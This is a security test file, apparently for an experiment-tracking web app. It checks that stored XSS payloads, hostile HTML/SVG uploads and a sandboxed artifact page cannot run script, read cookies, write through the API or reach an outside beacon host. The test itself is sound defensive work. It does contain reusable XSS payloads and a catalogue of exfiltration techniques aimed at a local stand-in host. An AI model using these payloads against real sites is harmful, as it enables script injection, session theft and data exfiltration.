import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { startServer } from '../support/server.ts';
import { launchBrowser } from './support/browser.ts';
import { clientOf } from './support/seed.ts';

/** Sets a mark where its script runs in our own name; `beacon` is asked by whatever reaches out. */
const attacksOf = (beacon: string): readonly string[] => [
  '<script>window.owned = 1</script>',
  '<img src=x onerror="window.owned = 2">',
  `"><svg onload="window.owned = 3"><image href="${beacon}"/></svg>`,
  '<iframe srcdoc="<script>parent.owned = 4</script>"></iframe>',
  '[link](javascript:window.owned=5)',
  'javascript:window.owned=6',
  `<style>*{background:url(${beacon})}</style>`,
  '{{constructor.constructor("window.owned=7")()}}',
  `</title></script><script>window.owned = 8</script>`,
];

const isOwned = (page: Page): Promise<boolean> => page.evaluate(() => 'owned' in globalThis);

test('text in every field is shown as text: nothing of it runs, and nothing is fetched', async () => {
  let beacons = 0;
  const elsewhere = createServer((_, response) => {
    beacons++;
    response.end();
  });
  await new Promise<void>((resolve) => {
    elsewhere.listen(0, '127.0.0.1', resolve);
  });
  const beacon = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/beacon`;
  try {
    await using server = await startServer();
    const client = clientOf(server.url);
    const attacks = attacksOf(beacon);
    const pages: string[] = ['/', '/unassigned'];
    for (const [i, text] of attacks.entries()) {
      const experiment = await client.createExperiment({
        body: { name: `${text} ${i}`, description: text, tags: { [text]: text } },
      });
      const run = await client.createRun({
        body: {
          experimentId: experiment.id,
          name: text,
          parameters: { [text]: text },
          tags: { [text]: text },
        },
      });
      const params = { runId: run.id };
      await client.logMetrics({ params, body: { points: [0, 1].map((step) => ({ name: text, step, value: step })) } });
      await client.appendLog({ params, body: { lines: [{ timeMs: 1_795_000_000_000, stream: 'stdout', text }] } });
      await client.setNote({ params: { kind: 'run', id: run.id }, body: { text } });
      await client.logArtifact({ params, body: { name: `value ${i}`, value: text, metadata: { [text]: text } } });
      await client.logArtifact({
        params,
        body: { name: `uri ${i}`, uri: `https://example.test/${encodeURIComponent(text)}` },
      });
      await client.updateRun({ params, body: { status: 'failed', statusMessage: text } });
      pages.push(`/experiments/${experiment.id}`, `/runs/${run.id}`);
    }
    await using browser = await launchBrowser();
    const page = await browser.newPage();
    const outside: string[] = [];
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs++;
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      if (!request.url().startsWith(server.url) && !/^(data|blob):/.test(request.url())) outside.push(request.url());
    });
    for (const target of pages) {
      await page.goto(server.url + target);
      await page.getByRole('status').getByText('Live').waitFor();
      await page.waitForTimeout(150);
      expect(await isOwned(page), target).toBe(false);
      expect(await page.locator('a[href^="javascript:" i]').count(), target).toBe(0);
    }
    // Every place of a run's page that opens by a click.
    await page.goto(server.url + String(pages.at(-1)));
    const tabs = page.getByRole('tab');
    await page.getByRole('status').getByText('Live').waitFor();
    for (let i = 0; i < (await tabs.count()); i++) {
      await tabs.nth(i).click();
      await page.waitForTimeout(150);
      expect(await isOwned(page)).toBe(false);
    }
    expect({ outside, beacons, dialogs }).toEqual({ outside: [], beacons: 0, dialogs: 0 });
  } finally {
    elsewhere.close();
  }
});

test('artifacts that are pages or drawings run nothing in our name, even when they are opened', async () => {
  await using server = await startServer();
  const client = clientOf(server.url);
  const { id: runId } = await client.createRun({ body: { experimentName: 'pages', name: 'one' } });
  const script = `fetch('/api/v1/experiments', {method:'POST',headers:{'content-type':'application/json'},body:'{"name":"owned"}'})`;
  const html = `<!doctype html><script>${script}</script><img src="/api/v1/server" onerror="${script.replaceAll('"', '&quot;')}">`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script.replaceAll('"', '&quot;')}"><script>${script}</script></svg>`;
  const files = [
    ['page.html', 'text/html', html],
    ['page.xhtml', 'application/xhtml+xml', html],
    ['drawing.svg', 'image/svg+xml', svg],
    ['feed.xml', 'text/xml', `<?xml version="1.0"?>${svg}`],
    ['sniffed.png', 'image/png', html],
    ['sniffed.txt', 'text/plain', html],
    ['untyped', 'application/octet-stream', html],
    ['odd', 'text/html;charset=utf-7', html],
    ['code.js', 'text/javascript', script],
    ['data.json', 'application/json', '{"a":"<script>x"}'],
  ] as const;
  await using browser = await launchBrowser();
  const page = await browser.newPage();
  for (const [name, type, content] of files) {
    const target = `${server.url}/api/v1/runs/${runId}/artifacts/content?name=${encodeURIComponent(name)}`;
    const put = await fetch(target, { method: 'PUT', headers: { 'content-type': type }, body: content });
    expect(put.status, name).toBe(201);
    // Opened directly, and as a page of ours could be made to show it.
    await page
      .goto(target)
      .catch((thrown: unknown) => expect(String(thrown)).toMatch(/Download is starting|ERR_ABORTED/));
    await page.goto(server.url);
    const scriptRan = await page.evaluate(`new Promise((resolve) => {
      for (const tag of ['iframe', 'object', 'embed']) {
        const element = document.createElement(tag);
        element.setAttribute(tag === 'object' ? 'data' : 'src', ${JSON.stringify(target)});
        document.body.append(element);
      }
      const script = document.createElement('script');
      script.src = ${JSON.stringify(target)};
      script.onload = () => resolve(true);
      script.onerror = () => resolve(false);
      document.body.append(script);
    })`);
    await page.waitForTimeout(200);
    expect(scriptRan, name).toBe(false);
    const { experiments } = await client.listExperiments({ query: { name: 'owned' } });
    expect(experiments, name).toEqual([]);
  }
});

/** Tries every way out that a page has, and writes down what came of each. */
const escapeAttempts = (own: string, beacon: string): string => `<!doctype html>
<html><head>
<style>@import "${beacon}?css"; @font-face { font-family: f; src: url(${beacon}?font) } body { font-family: f; background: url(${beacon}?ground) }</style>
<link rel="stylesheet" href="${beacon}?sheet"><link rel="prefetch" href="${beacon}?prefetch"><link rel="preconnect" href="${beacon}">
<link rel="icon" href="${beacon}?icon"><meta http-equiv="refresh" content="2;url=${beacon}?refresh"><base href="${beacon}">
</head><body><img src="${beacon}?img"><iframe src="${beacon}?frame"></iframe><object data="${beacon}?object"></object>
<video src="${beacon}?video"></video><script src="${beacon}?script"></script><form id="f" action="${beacon}?form"><input name="a"></form>
<pre id="told">nothing ran</pre>
<script>
const told = {};
const attempt = async (name, act) => {
  try { const got = await act(); told[name] = 'reached ' + String(got).slice(0, 80); }
  catch (thrown) { told[name] = 'refused ' + thrown.name; }
};
const heard = (target, good, bad) => new Promise((resolve, reject) => {
  target[good] = () => resolve(good);
  target[bad] = () => reject(new Error(bad));
  setTimeout(() => reject(new Error('silence')), 1500);
});
(async () => {
  await attempt('cookie', () => document.cookie);
  await attempt('setCookie', () => { document.cookie = 'owned=1'; });
  await attempt('localStorage', () => localStorage.length);
  await attempt('indexedDB', () => indexedDB.open('x'));
  await attempt('caches', () => caches.keys());
  await attempt('parent', () => parent.document.title);
  await attempt('top', () => { top.location = '${beacon}?top'; });
  await attempt('popup', () => { const opened = open('${beacon}?popup'); if (opened === null) throw new Error('null'); return opened; });
  await attempt('api', async () => (await fetch('${own}/api/v1/server')).text());
  await attempt('write', async () => (await fetch('${own}/api/v1/experiments', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{"name":"owned"}' })).type);
  await attempt('fetch', async () => (await fetch('${beacon}?fetch', { mode: 'no-cors' })).type);
  await attempt('request', () => { const r = new XMLHttpRequest(); r.open('GET', '${own}/api/v1/server', false); r.send(); return r.responseText; });
  await attempt('beacon', () => { navigator.sendBeacon('${beacon}?beacon'); throw new Error('sent or not, counted outside'); });
  await attempt('image', () => { const image = new Image(); image.src = '${beacon}?image'; return heard(image, 'onload', 'onerror'); });
  await attempt('socket', () => heard(new WebSocket('${beacon.replace('http', 'ws')}?socket'), 'onopen', 'onerror'));
  await attempt('events', () => heard(new EventSource('${own}/api/v1/changes/stream'), 'onopen', 'onerror'));
  await attempt('worker', () => heard(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'onmessage', 'onerror'));
  await attempt('import', () => import('${beacon}?import'));
  await attempt('peer', async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${new URL(beacon).port}' }] });
    peer.createDataChannel('a');
    await peer.setLocalDescription(await peer.createOffer());
    throw new Error('sent or not, counted outside');
  });
  await attempt('eval', () => eval('1'));
  await attempt('serviceWorker', () => navigator.serviceWorker.register('${own}/sw.js'));
  await attempt('form', () => { document.getElementById('f').submit(); throw new Error('sent or not, counted outside'); });
  document.getElementById('told').textContent = JSON.stringify(told);
})();
</script></body></html>`;

test('a page among the artifacts runs in a frame that reaches nothing', async () => {
  const asked: string[] = [];
  const elsewhere = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('reached');
  });
  elsewhere.on('connection', () => asked.push('a connection'));
  await new Promise<void>((resolve) => {
    elsewhere.listen(0, '127.0.0.1', resolve);
  });
  const { port } = elsewhere.address() as AddressInfo;
  const beacon = `http://127.0.0.1:${port}/`;
  const packets = createSocket('udp4', () => asked.push('a packet'));
  packets.bind(port, '127.0.0.1');
  try {
    await using server = await startServer();
    const client = clientOf(server.url);
    const { id: runId } = await client.createRun({ body: { experimentName: 'pages', name: 'one' } });
    const upload = (name: string, body: string, mediaType = 'text/html') =>
      client.uploadArtifact({ params: { runId }, query: { name }, body, mediaType });
    await upload('attack.html', escapeAttempts(server.url, beacon));
    await upload(
      'leave.html',
      `<!doctype html><p>leaving</p><script>location = ${JSON.stringify(`${beacon}?left`)}</script>`,
    );
    await upload('return.html', `<!doctype html><p>back</p><script>location = ${JSON.stringify(server.url)}</script>`);
    await using browser = await launchBrowser();
    const context = await browser.newContext();
    await context.addCookies([{ name: 'session', value: 'secret', url: server.url }]);
    const page = await context.newPage();
    // What the policy stops is a request to the browser's tools, but never has an answer.
    const answered: string[] = [];
    page.on('response', (response) => {
      if (response.frame() !== page.mainFrame()) answered.push(response.url());
    });
    const show = async (name: string) => {
      await page.goto(`${server.url}/runs/${runId}/artifacts?artifact=${encodeURIComponent(`output:${name}`)}`);
      const frame = page.frameLocator('iframe');
      await page.locator('iframe').waitFor();
      return frame;
    };

    const frame = await show('attack.html');
    const told = frame.locator('#told');
    await expect.poll(() => told.innerText(), { timeout: 30_000 }).toMatch(/^\{/);
    const outcomes = JSON.parse(await told.innerText()) as Record<string, string>;
    expect(Object.keys(outcomes)).toHaveLength(22);
    const reached = Object.entries(outcomes).filter(([, outcome]) => outcome.startsWith('reached'));
    expect(reached).toEqual([]);
    await page.waitForTimeout(2500);
    expect(answered.filter((url) => !url.includes('/artifacts/content?'))).toEqual([]);
    expect(page.url()).toContain(server.url);
    expect(context.pages()).toHaveLength(1);

    for (const name of ['leave.html', 'return.html']) {
      await show(name);
      await page.waitForTimeout(700);
      expect(page.url()).toContain(`${server.url}/runs/${runId}`);
    }
    expect(asked).toEqual([]);
    expect((await client.listExperiments({ query: { name: 'owned' } })).experiments).toEqual([]);

    // By itself it is a download, and for a page that is not ours not even that.
    const address = `${server.url}/api/v1/runs/${runId}/artifacts/content?name=attack.html&as=page`;
    await page
      .goto(address)
      .catch((thrown: unknown) => expect(String(thrown)).toMatch(/Download is starting|ERR_ABORTED/));
    const headers = { 'sec-fetch-dest': 'iframe', 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate' };
    expect((await fetch(address, { headers })).status).toBe(403);
  } finally {
    packets.close();
    elsewhere.close();
  }
});
